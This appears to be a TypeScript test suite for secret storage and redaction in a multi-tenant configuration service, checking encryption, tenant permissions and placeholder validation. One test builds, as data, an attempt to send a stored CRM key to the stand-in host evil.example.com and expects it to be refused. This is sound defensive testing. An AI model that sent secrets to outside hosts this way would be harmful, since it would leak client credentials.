import { MongoClient } from "mongodb";
import type { TemplateInput } from "../../../shared/contracts/records/template.ts";
import { asAdmin, asMerchant, asReseller, asUser } from "../../../local/harness/stage.ts";
import { configCalls, failing, tenant, UNKNOWN, type By } from "../fixtures/config-calls.ts";
import { configStage } from "../fixtures/config-stage.ts";

/** Secrets of clients: written by name, used by pre-checks and functions, shown to nobody. */
const stage = configStage();
const { audited } = stage;
const { save, configure, change, put, read, versions } = configCalls(stage);

const CANARY = "Bearer CANARY-CRM-KEY-123";
const putSecret = (by: By, reseller_id: string, merchant_id: string | null, over = {}) =>
  stage.bus.call("config.putSecret", {
    by,
    name: "CRM",
    reseller_id,
    ...(merchant_id === null ? {} : { merchant_id }),
    value: CANARY,
    ...over,
  });
const list = async (by: By, over = {}) => (await stage.bus.call("config.listSecrets", { by, ...over })).secrets;
const valuesFor = async (template_id: string, names: string[]) =>
  (await stage.bus.call("config.secretValues", { template_id, names })).values;
const check = (over: object = {}) => ({ name: "crm", url: "https://crm.example.com/q?key=K-77", ...over });
const withHttp = (http: object): Partial<TemplateInput> => ({
  nodes: [
    {
      name: "a",
      prompt: "Talk.",
      functions: [
        {
          name: "ask",
          description: "Asks.",
          action: "http",
          http: { method: "GET", url: "https://crm.example.com/q", ...http },
        },
        { name: "bye", description: "Ends.", action: "end_call" },
      ],
    },
  ],
});

test("a secret is written, listed and replaced without its value ever coming back, and lies encrypted", async () => {
  const r = tenant();
  const m = `${r}.m`;
  const written = await putSecret(asMerchant(r, m), r, m);
  expect(written).toEqual({
    name: "CRM",
    reseller_id: r,
    merchant_id: m,
    created_at: expect.any(String),
    updated_at: expect.any(String),
  });
  const again = await putSecret(asReseller(r), r, m, { value: "CANARY-two" });
  expect(again.created_at).toBe(written.created_at);
  expect(await list(asMerchant(r, m))).toEqual([again]);
  const client = await MongoClient.connect(stage.uri);
  const docs = JSON.stringify(await client.db().collection("secrets").find({ reseller_id: r }).toArray());
  await client.close();
  expect(docs).toMatch(/sealed:v1:/);
  expect(docs + JSON.stringify([written, again, audited])).not.toContain("CANARY");
  expect(audited.map(({ action, subject, details }) => [action, subject, details])).toEqual([
    ["secret.written", m, { name: "CRM" }],
    ["secret.written", m, { name: "CRM" }],
  ]);
});

test("a deleted merchant's secrets are gone from the database, and a deleted reseller's with all of its merchants'", async () => {
  const [r, other] = [tenant(), tenant()];
  for (const m of [null, `${r}.m`, `${r}.n`]) await putSecret(asAdmin, r, m);
  await putSecret(asAdmin, other, null);
  const left = async () => (await list(asAdmin, { limit: 500 })).filter((s) => [r, other].includes(s.reseller_id));
  await stage.bus.call("config.dropSecrets", { reseller_id: r, merchant_id: `${r}.m` });
  expect((await left()).map((s) => s.merchant_id)).not.toContain(`${r}.m`);
  expect(await left()).toHaveLength(3);
  await stage.bus.call("config.dropSecrets", { reseller_id: r });
  expect((await left()).map((s) => s.reseller_id)).toEqual([other]);
});

test("secrets are their owners' to write and list: not a user's, not another tenant's", async () => {
  const [r, other] = [tenant(), tenant()];
  const m = `${r}.m`;
  await putSecret(asReseller(r), r, null);
  await putSecret(asAdmin, r, m);
  for (const by of [asUser(r, m), asMerchant(r, `${r}.n`), asReseller(other)])
    expect((await failing(putSecret(by, r, m))).code).toBe("FORBIDDEN");
  expect((await failing(putSecret(asMerchant(r, m), r, null))).code).toBe("FORBIDDEN");
  expect((await failing(putSecret(asAdmin, "nobody", null))).code).toBe("RESELLER_NOT_FOUND");
  expect([
    (await list(asMerchant(r, m))).length,
    (await list(asReseller(r))).length,
    await list(asReseller(other)),
  ]).toEqual([1, 2, []]);
  const drop = (by: By, name = "CRM") =>
    stage.bus.call("config.deleteSecret", { by, name, reseller_id: r, merchant_id: m });
  expect((await failing(drop(asUser(r, m)))).code).toBe("FORBIDDEN");
  expect((await failing(drop(asAdmin, "NONE"))).code).toBe("SECRET_NOT_FOUND");
  await drop(asMerchant(r, m));
  expect(await list(asMerchant(r, m))).toEqual([]);
});

test("values go out for the template's own owner alone: a merchant's template can't use its reseller's", async () => {
  const r = tenant();
  const m = `${r}.m`;
  await putSecret(asAdmin, r, null, { value: "the reseller's" });
  const [ofReseller, ofMerchant] = [await save(r), await save(r, { merchant_id: m })];
  expect(await valuesFor(ofReseller.id, ["CRM", "NONE"])).toEqual([{ name: "CRM", value: "the reseller's" }]);
  expect([await valuesFor(ofMerchant.id, ["CRM"]), await valuesFor(UNKNOWN, ["CRM"])]).toEqual([[], []]);
  await putSecret(asAdmin, r, m, { value: "the merchant's" });
  expect(await valuesFor(ofMerchant.id, ["CRM"])).toEqual([{ name: "CRM", value: "the merchant's" }]);
});

test("a pre-check uses secrets in headers and body; unknown ones, in addresses and to an open host are refused", async () => {
  const r = tenant();
  const { id } = await save(r);
  const headers = { authorization: "{{secrets.CRM}}" };
  expect(await failing(configure(id, { pre_checks: [check({ headers })] }))).toEqual({
    code: "VALIDATION_FAILED",
    paths: ["pre_checks.0.headers.authorization"],
  });
  await putSecret(asAdmin, r, null);
  const bad = [
    check({ url: "https://crm.example.com/?k={{secrets.CRM}}" }),
    check({ url: "https://{{shop}}.example.com/", headers }),
    check({ headers: { authorization: "***" }, body: "***" }),
  ];
  expect(await failing(configure(id, { pre_checks: bad }))).toEqual({
    code: "VALIDATION_FAILED",
    paths: ["pre_checks.0.url", "pre_checks.1.url", "pre_checks.2.headers.authorization", "pre_checks.2.body"],
  });
  const made = await configure(id, { pre_checks: [check({ headers, body: { k: ["{{secrets.CRM}}"] } })] });
  expect(JSON.stringify(made)).not.toContain("CANARY");
  // what has nothing to do with pre-checks can be changed when a secret is gone
  await stage.bus.call("config.deleteSecret", { by: asAdmin, name: "CRM", reseller_id: r });
  expect((await change(asAdmin, made.id, { max_retry: 1 })).max_retry).toBe(1);
});

test("a playground override can't send a secret anywhere", async () => {
  const r = tenant();
  const m = `${r}.m`;
  await putSecret(asAdmin, r, null);
  const { id } = await save(r);
  await configure(id, { pre_checks: [check({ headers: { authorization: "{{secrets.CRM}}" } })] });
  const stolen = [check({ url: "https://evil.example.com/", headers: { a: "{{secrets.CRM}}" } })];
  const push = { template_id: id, reseller_id: r, merchant_id: m, payload: { name: "Ada" } };
  const override = { role: "merchant" as const, fields: { pre_checks: stolen } };
  expect(await failing(stage.bus.call("config.resolveForPush", { ...push, override }))).toMatchObject({
    code: "PAYLOAD_INVALID",
    paths: ["configurations_override.pre_checks.0.headers.a"],
  });
  const { configuration } = await stage.bus.call("config.overridden", {
    template_id: id,
    override: { pre_checks: stolen },
  });
  expect(configuration?.pre_checks).toMatchObject([{ url: check().url }]);
});

test("a user sees of pre-checks and functions nothing that may be a credential; who may write them sees all", async () => {
  const r = tenant();
  const m = `${r}.m`;
  const http = {
    url: "https://crm.example.com/q?key=K-77",
    headers: { "x-key": "CANARY" },
    body: { k: "CANARY" },
  };
  const template = await save(r, {
    merchant_id: m,
    ...withHttp(http),
    global_functions: [{ name: "ask_again", description: "Asks.", action: "http", http: { method: "GET", ...http } }],
  });
  const made = await configure(template.id, {
    pre_checks: [check({ headers: { Authorization: CANARY }, body: { k: CANARY } })],
  });
  const config = (by: By) => stage.bus.call("config.getConfiguration", { by, config_id: made.id });
  const user = asUser(r, m);
  const shown = [
    await config(user),
    await stage.bus.call("config.listConfigurations", { by: user }),
    await read(user, template.id),
    await stage.bus.call("config.listTemplates", { by: user }),
    await versions(user, template.id),
  ];
  expect(JSON.stringify(shown)).not.toMatch(/CANARY|K-77/);
  expect((await config(user)).pre_checks).toEqual([
    { name: "crm", url: "https://crm.example.com/q?***", headers: { Authorization: "***" }, body: "***" },
  ]);
  expect((await config(asMerchant(r, m))).pre_checks).toEqual(made.pre_checks);
  expect(JSON.stringify(await read(asMerchant(r, m), template.id))).toMatch(/CANARY.*K-77|K-77.*CANARY/);
  expect(
    await failing(change(asMerchant(r, m), made.id, { pre_checks: (await config(user)).pre_checks })),
  ).toMatchObject({
    code: "VALIDATION_FAILED",
    paths: ["pre_checks.0.url", "pre_checks.0.headers.Authorization", "pre_checks.0.body"],
  });
});

test("a function uses secrets in its headers alone, and nothing that is said can hold one", async () => {
  const r = tenant();
  const headers = { authorization: "{{secrets.CRM}}", "x-name": "{{name}}" };
  const saved = (over: Partial<TemplateInput>) => failing(save(r, over));
  expect(await saved(withHttp({ headers }))).toEqual({
    code: "TEMPLATE_INVALID",
    paths: ["nodes.0.functions.0.http.headers.authorization"],
  });
  await putSecret(asAdmin, r, null);
  expect((await saved(withHttp({ headers }))).code).toBe("taken");
  expect((await saved(withHttp({ headers: { a: "{{nothing}}" } }))).paths).toEqual([
    "nodes.0.functions.0.http.headers.a",
  ]);
  expect((await saved(withHttp({ url: "https://crm.example.com/{{secrets.CRM}}" }))).code).toBe("TEMPLATE_INVALID");
  expect((await saved(withHttp({ body: { k: "{{secrets.CRM}}" } }))).paths).toEqual([
    "nodes.0.functions.0.http.body.k",
  ]);
  expect((await saved({ greeting: "Hello {{secrets.CRM}}." })).paths).toEqual(["greeting"]);
  const { id } = await save(r);
  expect((await failing(put(asAdmin, id, withHttp({ headers: { a: "{{secrets.GONE}}" } })))).code).toBe(
    "TEMPLATE_INVALID",
  );
});
